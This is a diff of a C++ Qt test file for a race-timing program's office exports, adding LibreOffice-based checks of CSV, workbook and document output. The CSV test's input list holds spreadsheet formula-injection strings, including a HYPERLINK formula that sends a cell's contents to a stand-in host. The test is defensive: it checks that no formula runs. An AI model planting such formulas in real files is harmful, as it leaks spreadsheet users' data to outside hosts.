@@ -1,13 +1,22 @@
 #include "gridstore/CellStore.h"
+#include "gridstore/GridCsvText.h"
 #include "protocol/Columns.h"
 #include "protocol/ExcelExport.h"
+#include "protocol/ProtocolFiles.h"
 #include "protocol/WordExport.h"
+
 #include "support/RecordingShell.h"
+#include "support/TestSupport.h"
+#include <QDate>
+#include <QDir>
+
+#include "ZipEntry.h"
 
 #include <QProcess>
 #include <QRegularExpression>
 #include <QStandardPaths>
 #include <QTemporaryDir>
+#include <QXmlStreamReader>
 #include <QtTest>
 
 // The workbook and the document as an office suite opens them: LibreOffice
@@ -21,7 +30,7 @@ const QList<int> kWidths { 52, 300, 102, 90, 72, 52, -1 };
 const QStringList kNames { QStringLiteral("Berg, Anna"), QStringLiteral("Jörg Müller"), QStringLiteral("A<B & C"),
     QStringLiteral("Max \"Blitz\" Meier"), QStringLiteral("Zoë 🏃"),
     QStringLiteral("Ab") + QChar(0xFFFF) + QStringLiteral("cd"), QStringLiteral("Ef") + QChar(0) + QStringLiteral("gh"),
-    QStringLiteral("2024") };
+    QStringLiteral("2024"), QStringLiteral("=1+1"), QStringLiteral("@SUMME(A1)"), QStringLiteral("-Berg; Anna") };
 
 QString shownName(const QString& name)
 {
@@ -45,6 +54,31 @@ TCellStore race()
     return cells;
 }
 
+// What every cell of a sheet shows by its reference ("B2"): the text of a
+// shared or inline string, the value of a number.
+QMap<QString, QString> sheetTexts(const QByteArray& sheet, const QByteArray& shared)
+{
+    const QStringList strings = XlsxSharedStrings(shared);
+    QMap<QString, QString> texts;
+    QXmlStreamReader r(sheet);
+    QString ref, type;
+    while (!r.atEnd()) {
+        r.readNext();
+        if (r.isStartElement() && r.name() == QLatin1String("c")) {
+            ref = r.attributes().value(QLatin1String("r")).toString();
+            type = r.attributes().value(QLatin1String("t")).toString();
+        } else if (r.isStartElement() && r.name() == QLatin1String("v") && type == QLatin1String("s")) {
+            texts[ref] = strings.value(r.readElementText().toInt());
+        } else if (r.isStartElement() && r.name() == QLatin1String("v")
+            && (type.isEmpty() || type == QLatin1String("n"))) {
+            texts[ref] = r.readElementText();
+        } else if (r.isStartElement() && r.name() == QLatin1String("t") && type == QLatin1String("inlineStr")) {
+            texts[ref] += r.readElementText();
+        }
+    }
+    return texts;
+}
+
 } // namespace
 
 class TestOfficeOpen : public QObject {
@@ -56,15 +90,24 @@ private:
 
     // Converts a file with LibreOffice into the folder "out"; the result's
     // text, empty on failure.
-    QString convert(const QString& file, const QString& filter, const QString& suffix)
+    QString convert(const QString& file, const QString& filter, const QString& suffix, const QStringList& options = {})
+    {
+        QFile f(convertFile(file, filter, suffix, options));
+        if (!f.open(QIODevice::ReadOnly))
+            return {};
+        return QString::fromUtf8(f.readAll());
+    }
+
+    // The converted file's path, empty on failure.
+    QString convertFile(const QString& file, const QString& filter, const QString& suffix, const QStringList& options)
     {
         const QString out = m_dir.filePath(QStringLiteral("out"));
         QProcess p;
         p.setProcessChannelMode(QProcess::MergedChannels);
-        p.start(m_soffice,
-            { QStringLiteral("--headless"), QStringLiteral("--norestore"),
-                QStringLiteral("-env:UserInstallation=file://") + m_dir.filePath(QStringLiteral("profile")),
-                QStringLiteral("--convert-to"), filter, QStringLiteral("--outdir"), out, file });
+        QStringList arguments { QStringLiteral("--headless"), QStringLiteral("--norestore"),
+            QStringLiteral("-env:UserInstallation=file://") + m_dir.filePath(QStringLiteral("profile")) };
+        arguments << options << QStringLiteral("--convert-to") << filter << QStringLiteral("--outdir") << out << file;
+        p.start(m_soffice, arguments);
         if (!p.waitForFinished(180000)) {
             p.kill();
             p.waitForFinished();
@@ -72,12 +115,11 @@ private:
             return {};
         }
         const QString converted = out + QLatin1Char('/') + QFileInfo(file).completeBaseName() + suffix;
-        QFile f(converted);
-        if (!f.open(QIODevice::ReadOnly)) {
+        if (!QFileInfo::exists(converted)) {
             qWarning("no %s: %s", qPrintable(converted), p.readAll().constData());
             return {};
         }
-        return QString::fromUtf8(f.readAll());
+        return converted;
     }
 
 private slots:
@@ -92,12 +134,69 @@ private slots:
     }
     void cleanupTestCase() { platform::SetShell(nullptr); }
 
+    // What a registration form may put into a start list: a spreadsheet
+    // opening the CSV export shows each of these as the text it is (a
+    // formula-like one at most with its protective apostrophe), computes no
+    // formula and shifts no column; the program reads the file back as it was.
+    void csv_opensWithTextCellsOnly_andNothingShifted()
+    {
+        const QStringList hostile { QStringLiteral("=HYPERLINK(\"http://example.invalid/?x=\"&A1;\"klick\")"),
+            QStringLiteral("=1+1"), QStringLiteral("+49 170 1234"), QStringLiteral("-Berg"),
+            QStringLiteral("@SUMME(A1)"), QStringLiteral("\t=2"), QStringLiteral("Berg; Anna"),
+            QStringLiteral("Max \"Blitz\" Meier"), QStringLiteral("Zeile 1\r\nZeile 2"), QStringLiteral("2024"),
+            QStringLiteral("-7") };
+        TCellStore cells(protocol::kProtocolColCount, static_cast<int>(hostile.size()) + 1);
+        for (int c = 0; c < protocol::kProtocolColCount; ++c)
+            cells.SetCell(c, 0, protocol::kProtocolHeaders[static_cast<size_t>(c)]);
+        for (int i = 0; i < hostile.size(); ++i)
+            cells.SetRow(i + 1,
+                { QString::number(i + 1), hostile[i], "9:05.12,30", "1.05,2" + QString::number(i % 10), "0,00",
+                    QString::number(i + 1), "65120" });
+        const QString csv = m_dir.filePath(QStringLiteral("start.csv"));
+        QVERIFY(WriteFileBytes(csv, GridCsvBytes(cells)));
+
+        // As a spreadsheet opens it: ";" separated, quoted with '"', UTF-8.
+        const QString xlsx = convertFile(
+            csv, QStringLiteral("xlsx"), QStringLiteral(".xlsx"), { QStringLiteral("--infilter=CSV:59,34,76,1") });
+        QVERIFY(!xlsx.isEmpty());
+        const QString keep = qEnvironmentVariable("RENNZEIT_SCREENSHOT_DIR");
+        if (!keep.isEmpty() && QDir().mkpath(keep)) {
+            for (const QString& file : { csv, xlsx }) {
+                QFile::remove(QDir(keep).filePath(QFileInfo(file).fileName()));
+                QFile::copy(file, QDir(keep).filePath(QFileInfo(file).fileName()));
+            }
+        }
+        const QByteArray sheet = ReadZipEntry(xlsx, QStringLiteral("xl/worksheets/sheet1.xml"));
+        QVERIFY(!sheet.isEmpty());
+        QVERIFY2(!sheet.contains("<f>") && !sheet.contains("<f "), sheet.constData());
+        const QMap<QString, QString> texts
+            = sheetTexts(sheet, ReadZipEntry(xlsx, QStringLiteral("xl/sharedStrings.xml")));
+        for (int i = 0; i < hostile.size(); ++i) {
+            const QString row = QString::number(i + 2);
+            QString shown = texts.value(QStringLiteral("B") + row);
+            shown.replace(QLatin1String("\r\n"), QLatin1String("\n"));
+            QString expected = hostile[i];
+            expected.replace(QLatin1String("\r\n"), QLatin1String("\n"));
+            QVERIFY2(shown == expected || shown == QLatin1Char('\'') + expected,
+                qPrintable(QStringLiteral("B%1: %2").arg(row, shown)));
+            // Nothing shifted: the start time is still in column C.
+            QVERIFY2(texts.contains(QStringLiteral("C") + row) || sheet.contains("r=\"C" + row.toLatin1() + "\""),
+                qPrintable(row));
+            QVERIFY(!texts.contains(QStringLiteral("H") + row));
+        }
+        // And the program reads it back to the same table.
+        const std::optional<protocol::LoadedProtocol> loaded = protocol::LoadProtocolText(csv);
+        QVERIFY(loaded && loaded->ok());
+        QCOMPARE(int(loaded->rows.size()), int(hostile.size()));
+        for (int i = 0; i < hostile.size(); ++i)
+            QCOMPARE(loaded->rows[size_t(i)], cells.Row(i + 1));
+    }
+
     void workbook_opensWithEveryNameAndTime()
     {
-        const QByteArray previous = qgetenv("TMPDIR");
-        qputenv("TMPDIR", QFile::encodeName(m_dir.path()));
+        QVERIFY(UseDocumentsFolder(m_dir.path()));
         const bool exported = protocol::ExcelExport(race());
-        qputenv("TMPDIR", previous);
+        QVERIFY(UseDocumentsFolder(QString()));
         QVERIFY(exported);
         QCOMPARE(m_shell.calls.size(), 1);
         const QString workbook = m_shell.calls.takeFirst().mid(5);
@@ -138,6 +237,51 @@ private slots:
             QVERIFY2(text.contains(shownName(name)), qPrintable(shownName(name)));
         QVERIFY(text.contains(QStringLiteral("1:02.03,45")));
         QVERIFY(!text.contains(QStringLiteral("65120")));
+    }
+    // Rendered by the word processor: the header shows the race's title (its
+    // date), the table's heading row is on every page, and the long name
+    // wraps in its column while numbers and times stay on one line.
+    void document_rendersWithTitleAndHeadingOnEveryPage()
+    {
+        constexpr int kEntries = 90;
+        TCellStore cells(protocol::kProtocolColCount, kEntries + 2);
+        for (int c = 0; c < protocol::kProtocolColCount; ++c)
+            cells.SetCell(c, 0, protocol::kProtocolHeaders[static_cast<size_t>(c)]);
+        for (int i = 1; i <= kEntries; ++i) {
+            const QString name = i == 3
+                ? QStringLiteral("Maximiliane Wilhelmine von Hohenzollern-Sigmaringen zu Lauffen")
+                : QStringLiteral("Teilnehmerin %1").arg(i);
+            cells.SetRow(i,
+                { QString::number(100 + i), name, QStringLiteral("10:%1.00,00").arg(i % 60, 2, 10, QLatin1Char('0')),
+                    QStringLiteral("1.%1,74").arg(i % 60, 2, 10, QLatin1Char('0')), QStringLiteral("0,00"),
+                    QString::number(i), QString::number(60000 + i) });
+        }
+        cells.SetRow(kEntries + 1, { "", "", "", "", "", "-", "" });
+        const QString document = m_dir.filePath(QStringLiteral("lang.docx"));
+        QVERIFY(protocol::WordExport(protocol::kWordSaveMode, document, cells, kWidths,
+            QStringLiteral(RENNZEIT_BIN_DIR "/Protokollvorlage.docx")));
+        const QString pdf = convertFile(document, QStringLiteral("pdf"), QStringLiteral(".pdf"), {});
+        QVERIFY(!pdf.isEmpty());
+        const QString keep = qEnvironmentVariable("RENNZEIT_SCREENSHOT_DIR");
+        if (!keep.isEmpty() && QDir().mkpath(keep)) {
+            QFile::remove(QDir(keep).filePath(QStringLiteral("document.pdf")));
+            QFile::copy(pdf, QDir(keep).filePath(QStringLiteral("document.pdf")));
+        }
+        QProcess p;
+        p.start(QStringLiteral("pdftotext"), { QStringLiteral("-layout"), pdf, QStringLiteral("-") });
+        QVERIFY(p.waitForFinished(60000));
+        const QStringList pages
+            = QString::fromUtf8(p.readAllStandardOutput()).split(QLatin1Char('\f'), Qt::SkipEmptyParts);
+        QVERIFY2(pages.size() >= 2, qPrintable(QString::number(pages.size())));
+        const QString title = protocol::DocumentTitle(QString(), QDate::currentDate());
+        const QRegularExpression heading(QStringLiteral("Nr\\.\\s+Name\\s+Start\\s+Zeit\\s+Split\\s+Platz"));
+        for (const QString& page : pages) {
+            QVERIFY2(page.contains(title), qPrintable(page.left(300)));
+            QVERIFY2(heading.match(page).hasMatch(), qPrintable(page.left(300)));
+        }
+        const QString all = pages.join(QLatin1Char('\n'));
+        QVERIFY(all.contains(QStringLiteral("1.03,74")));
+        QVERIFY(all.contains(QStringLiteral("Maximiliane Wilhelmine")));
     }
 };
 
